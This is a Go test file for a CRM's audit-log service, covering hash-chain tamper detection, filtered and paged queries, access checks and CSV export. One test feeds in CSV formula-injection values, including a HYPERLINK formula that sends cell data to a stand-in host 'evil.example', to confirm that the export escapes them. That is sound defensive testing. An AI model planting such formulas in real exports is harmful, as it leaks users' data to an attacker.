package audit

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/okno-crm/okno/internal/auditlog"
	"github.com/okno-crm/okno/internal/events"
	"github.com/okno-crm/okno/internal/ids"
	"github.com/okno-crm/okno/internal/perm"
	"github.com/okno-crm/okno/internal/principal"
	"github.com/okno-crm/okno/internal/problem"
	"github.com/okno-crm/okno/internal/testenv"
)

type clock struct{ t time.Time }

func (c *clock) now() time.Time { return c.t }

// start has nanoseconds on purpose: PostgreSQL keeps microseconds, and the
// chain must still verify after the round trip.
var start = time.Date(2026, 11, 21, 9, 0, 0, 123456789, time.UTC)

func newService(t *testing.T, b testenv.Backend) (*Service, *clock) {
	t.Helper()
	c := &clock{t: start}
	s, err := New(context.Background(), testenv.OpenDB(t, b, ServiceName), c.now)
	if err != nil {
		t.Fatal(err)
	}
	return s, c
}

func envelope(t *testing.T, subject string, data any) events.Envelope {
	t.Helper()
	raw, err := json.Marshal(data)
	if err != nil {
		t.Fatal(err)
	}
	return events.Envelope{ID: ids.New(), Type: subject, At: start, Data: raw}
}

// deliver applies e the way events.Consumer does: inbox and effect in one
// transaction.
func deliver(t *testing.T, s *Service, e events.Envelope) {
	t.Helper()
	err := s.DB.InTx(context.Background(), func(tx *sql.Tx) error {
		fresh, err := events.MarkHandled(context.Background(), tx, e.ID, s.Now())
		if err != nil || !fresh {
			return err
		}
		return s.Apply(context.Background(), tx, e)
	})
	if err != nil {
		t.Fatal(err)
	}
}

func rec(i int) auditlog.Record {
	return auditlog.Record{
		At: start.Add(time.Duration(i) * time.Minute), ActorID: "0190f000-0000-7000-8000-00000000000" + fmt.Sprint(i%2),
		ActorLogin: []string{"ivanova", "petrov"}[i%2], ActorRole: "operator", ClientAddr: "10.0.0.7",
		Action: "contact.read", ObjectType: "contact", ObjectID: fmt.Sprintf("contact-%d", i),
		Fields: []string{"name", "phone"}, Outcome: auditlog.OutcomeSuccess, Details: map[string]string{"b": "2", "a": "1"},
	}
}

func fill(t *testing.T, s *Service, n int) {
	t.Helper()
	for i := 1; i <= n; i++ {
		deliver(t, s, envelope(t, "contactcenter.audit.recorded", rec(i)))
	}
}

func verify(t *testing.T, s *Service, wantBroken int64) {
	t.Helper()
	_, broken, err := s.Verify(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if broken != wantBroken {
		t.Fatalf("Verify: first broken %d, want %d", broken, wantBroken)
	}
}

func TestStoreChain(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		ctx := context.Background()
		s, _ := newService(t, b)
		fill(t, s, 5)
		checked, broken, err := s.Verify(ctx)
		if err != nil || checked != 5 || broken != 0 {
			t.Fatalf("Verify = %d, %d, %v; want 5 intact", checked, broken, err)
		}
		items, _, err := s.Find(ctx, Filter{})
		if err != nil || len(items) != 5 {
			t.Fatalf("find: %d items, %v", len(items), err)
		}
		first, second := items[4], items[3]
		if first.Seq != 1 || first.PrevHash != genesis || second.PrevHash != first.Hash || len(first.Hash) != 64 {
			t.Fatalf("chain links: %+v / %+v", first, second)
		}
		if first.At != start.Add(time.Minute).Truncate(time.Microsecond) || first.Service != "contactcenter" ||
			!slices.Equal(first.Fields, []string{"name", "phone"}) || first.Details["a"] != "1" {
			t.Fatalf("stored record %+v", first)
		}

		// Redelivered without the inbox, other subjects, and unreadable or
		// incomplete records: the chain stays whole and nothing is lost.
		e := envelope(t, "contactcenter.audit.recorded", rec(6))
		deliver(t, s, e)
		if err := s.DB.InTx(ctx, func(tx *sql.Tx) error { return s.Apply(ctx, tx, e) }); err != nil {
			t.Fatal(err)
		}
		deliver(t, s, envelope(t, "contactcenter.request.created", map[string]string{"id": "x"}))
		deliver(t, s, events.Envelope{ID: ids.New(), Type: "identity.audit.recorded", At: start, Data: json.RawMessage(`"nonsense"`)})
		deliver(t, s, envelope(t, "identity.audit.recorded", auditlog.Record{At: start, Action: "login.failed"}))
		deliver(t, s, envelope(t, "identity.audit.recorded", auditlog.Record{At: start, Action: "login.failed", Outcome: "failure", ActorLogin: "a\x00b"}))
		items, _, _ = s.Find(ctx, Filter{Limit: 4})
		if len(items) != 4 || items[0].Seq != 9 || items[0].ActorLogin != "a\uFFFDb" ||
			items[1].Action != "audit.malformed" || !strings.Contains(items[1].Details["reason"], "outcome") ||
			items[2].Action != "audit.malformed" || items[2].Service != "identity" || items[3].Seq != 6 {
			t.Fatalf("after odd deliveries: %+v", items)
		}
		verify(t, s, 0)

		// A changed value breaks its record.
		var login string
		_ = s.DB.R.QueryRow(`SELECT actor_login FROM audit_records WHERE seq = 3`).Scan(&login)
		mustExec(t, s, `UPDATE audit_records SET actor_login = 'x' WHERE seq = 3`)
		verify(t, s, 3)
		mustExec(t, s, `UPDATE audit_records SET actor_login = $1 WHERE seq = 3`, login)
		verify(t, s, 0)

		// Recomputing the changed record's own hash moves the break to the
		// next record, whose prev_hash no longer matches.
		items, _, _ = s.Find(ctx, Filter{Before: 4, Limit: 2})
		forged := items[0]
		forged.ActorLogin = "x"
		mustExec(t, s, `UPDATE audit_records SET actor_login = 'x', hash = $1 WHERE seq = 3`, chainHash(items[1].Hash, forged))
		verify(t, s, 4)
		mustExec(t, s, `UPDATE audit_records SET actor_login = $1, hash = $2 WHERE seq = 3`, login, items[0].Hash)
		verify(t, s, 0)

		// A removed record is a gap.
		mustExec(t, s, `DELETE FROM audit_records WHERE seq = 5`)
		verify(t, s, 5)
		mustExec(t, s, `DELETE FROM audit_records WHERE seq = 1`)
		verify(t, s, 1)
	})
}

func mustExec(t *testing.T, s *Service, q string, args ...any) {
	t.Helper()
	if _, err := s.DB.W.Exec(q, args...); err != nil {
		t.Fatal(err)
	}
}

func TestStoreFind(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		ctx := context.Background()
		s, _ := newService(t, b)
		fill(t, s, 9) // records 1..9 at start+1m … start+9m; odd ones are petrov's
		// Filed times keep microseconds; From is inclusive and To exclusive.
		stored := func(d time.Duration) time.Time { return start.Add(d).Truncate(time.Microsecond) }
		seqs := func(items []Entry) []int64 {
			var out []int64
			for _, e := range items {
				out = append(out, e.Seq)
			}
			return out
		}
		for name, c := range map[string]struct {
			f    Filter
			want []int64
		}{
			"actor id":    {Filter{ActorID: rec(2).ActorID}, []int64{8, 6, 4, 2}},
			"actor login": {Filter{ActorLogin: "petrov"}, []int64{9, 7, 5, 3, 1}},
			"object":      {Filter{ObjectID: "contact-4"}, []int64{4}},
			"object type": {Filter{ObjectType: "request"}, nil},
			"action":      {Filter{Action: "contact.read", ActorLogin: "petrov", Limit: 2}, []int64{9, 7}},
			"time range":  {Filter{From: stored(3 * time.Minute), To: stored(6 * time.Minute)}, []int64{5, 4, 3}},
			"from only":   {Filter{From: stored(8*time.Minute + time.Microsecond)}, []int64{9}},
		} {
			items, _, err := s.Find(ctx, c.f)
			if err != nil {
				t.Fatal(err)
			}
			if got := seqs(items); !slices.Equal(got, c.want) {
				t.Errorf("%s: got %v, want %v", name, got, c.want)
			}
		}

		var all []int64
		f := Filter{Limit: 4}
		for pages := 0; ; pages++ {
			if pages > 3 {
				t.Fatal("paging does not end")
			}
			items, next, err := s.Find(ctx, f)
			if err != nil {
				t.Fatal(err)
			}
			all = append(all, seqs(items)...)
			if next == "" {
				break
			}
			fmt.Sscan(next, &f.Before)
		}
		if !slices.Equal(all, []int64{9, 8, 7, 6, 5, 4, 3, 2, 1}) {
			t.Fatalf("pages gave %v", all)
		}
	})
}

const token = "internal-test-token"

func call(t *testing.T, h http.Handler, path string, perms ...string) *httptest.ResponseRecorder {
	t.Helper()
	r := httptest.NewRequest("GET", path, nil)
	principal.Set(r.Header, token, principal.Principal{UserID: ids.New(), Permissions: perms, ClientAddr: "10.0.0.9"})
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

func TestStoreHTTP(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		ctx := context.Background()
		s, _ := newService(t, b)
		fill(t, s, 3)
		evil := rec(4)
		evil.ActorLogin = `=HYPERLINK("http://evil.example/?"&A1)`
		evil.ObjectID = "-2+3"
		evil.Details = map[string]string{"note": "@SUM(A1)"}
		deliver(t, s, envelope(t, "contactcenter.audit.recorded", evil))
		h := s.Handler(token)

		r := httptest.NewRequest("GET", "/audit", nil)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code != http.StatusUnauthorized {
			t.Fatalf("without the internal token: %d", w.Code)
		}
		for _, p := range []string{"/audit", "/audit/export.csv"} {
			if w := call(t, h, p, perm.ContactsRead); w.Code != http.StatusForbidden {
				t.Fatalf("%s without audit.read: %d", p, w.Code)
			}
		}

		for q, field := range map[string]string{
			"from=yesterday": "from", "to=2026-13-01T00:00:00Z": "to", "limit=501": "limit", "cursor=abc": "cursor",
			"from=2026-11-21T10:00:00Z&to=2026-11-21T09:00:00Z": "to",
		} {
			w := call(t, h, "/audit?"+q, perm.AuditRead)
			var pb problem.Body
			_ = json.Unmarshal(w.Body.Bytes(), &pb)
			if w.Code != http.StatusUnprocessableEntity || len(pb.Errors) != 1 || pb.Errors[0].Field != field {
				t.Errorf("%s: %d %s, want 422 naming %s", q, w.Code, w.Body, field)
			}
		}

		w = call(t, h, "/audit?actor=ivanova&limit=1", perm.AuditRead)
		var page struct {
			Items      []Entry `json:"items"`
			NextCursor *string `json:"next_cursor"`
		}
		if err := json.Unmarshal(w.Body.Bytes(), &page); err != nil || w.Code != 200 {
			t.Fatalf("list: %d %s", w.Code, w.Body)
		}
		if len(page.Items) != 1 || page.Items[0].Seq != 2 || page.NextCursor != nil {
			t.Fatalf("list page %+v next %v", page.Items, page.NextCursor)
		}
		w = call(t, h, "/audit?limit=2&from=2026-11-21T09:02:00Z", perm.AuditRead)
		_ = json.Unmarshal(w.Body.Bytes(), &page)
		if len(page.Items) != 2 || page.NextCursor == nil || *page.NextCursor != "3" {
			t.Fatalf("list with more: %+v next %v", page.Items, page.NextCursor)
		}

		w = call(t, h, "/audit/export.csv", perm.AuditRead)
		if w.Code != 200 || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/csv") || w.Header().Get("X-Okno-Next-Cursor") != "" {
			t.Fatalf("export: %d %v", w.Code, w.Header())
		}
		if !bytes.Contains(w.Body.Bytes(), []byte("\r\n")) {
			t.Fatal("export lines do not end in CRLF")
		}
		rows, err := csv.NewReader(w.Body).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 5 || !slices.Equal(rows[0], csvHeader) || rows[1][0] != "4" || rows[4][0] != "1" {
			t.Fatalf("export rows %q", rows)
		}
		cell := func(row []string, name string) string { return row[slices.Index(csvHeader, name)] }
		if got := cell(rows[1], "actor_login"); got != "'"+evil.ActorLogin {
			t.Errorf("formula login exported as %q", got)
		}
		if got := cell(rows[1], "object_id"); got != "'-2+3" {
			t.Errorf("object id exported as %q", got)
		}
		if got := cell(rows[1], "details"); got != `{"note":"@SUM(A1)"}` {
			t.Errorf("details exported as %q", got)
		}
		if got := cell(rows[2], "actor_login"); got != "petrov" {
			t.Errorf("a plain login exported as %q", got)
		}

		// The export was audited before it was sent, and the chain holds.
		items, _, _ := s.Find(ctx, Filter{Action: "audit.exported"})
		if len(items) != 1 || items[0].Seq != 5 || items[0].ClientAddr != "10.0.0.9" || items[0].Service != ServiceName {
			t.Fatalf("export record %+v", items)
		}
		verify(t, s, 0)

		// A cut export says where to continue.
		w = call(t, h, "/audit/export.csv?limit=2", perm.AuditRead)
		rows, _ = csv.NewReader(w.Body).ReadAll()
		if len(rows) != 3 || rows[1][0] != "5" || w.Header().Get("X-Okno-Next-Cursor") != "4" {
			t.Fatalf("cut export: next %q rows %q", w.Header().Get("X-Okno-Next-Cursor"), rows)
		}

		if w := call(t, h, "/readyz"); w.Code != http.StatusNoContent {
			t.Fatalf("readyz: %d", w.Code)
		}
	})
}

func TestStoreEmit(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		ctx := context.Background()
		// The audit database has an outbox like any service's; Emit needs
		// nothing else.
		s, _ := newService(t, b)
		r := rec(1)
		r.At = start.In(time.FixedZone("MSK", 3*3600))
		if err := s.DB.InTx(ctx, func(tx *sql.Tx) error { return auditlog.Emit(ctx, tx, "contactcenter", r) }); err != nil {
			t.Fatal(err)
		}
		bad := r
		bad.Outcome = ""
		if err := s.DB.InTx(ctx, func(tx *sql.Tx) error { return auditlog.Emit(ctx, tx, "contactcenter", bad) }); err == nil {
			t.Fatal("a record without an outcome was emitted")
		}
		if err := s.DB.InTx(ctx, func(tx *sql.Tx) error { return auditlog.Emit(ctx, tx, "contact.center", r) }); err == nil {
			t.Fatal("a service name with a dot was accepted")
		}
		var subject, payload string
		var n int
		_ = s.DB.R.QueryRow(`SELECT COUNT(*) FROM outbox`).Scan(&n)
		if err := s.DB.R.QueryRow(`SELECT subject, payload FROM outbox`).Scan(&subject, &payload); err != nil || n != 1 {
			t.Fatalf("outbox: %d rows, %v", n, err)
		}
		if subject != "contactcenter.audit.recorded" {
			t.Fatalf("subject %q", subject)
		}
		var e events.Envelope
		if err := json.Unmarshal([]byte(payload), &e); err != nil || e.Type != subject {
			t.Fatalf("envelope %s: %v", payload, err)
		}

		// What the relay would carry files as the same record.
		deliver(t, s, e)
		items, _, _ := s.Find(ctx, Filter{})
		if len(items) != 1 || items[0].EventID != e.ID || !items[0].At.Equal(start.Truncate(time.Microsecond)) ||
			items[0].ActorLogin != r.ActorLogin || items[0].Service != "contactcenter" {
			t.Fatalf("filed %+v", items)
		}
	})
}
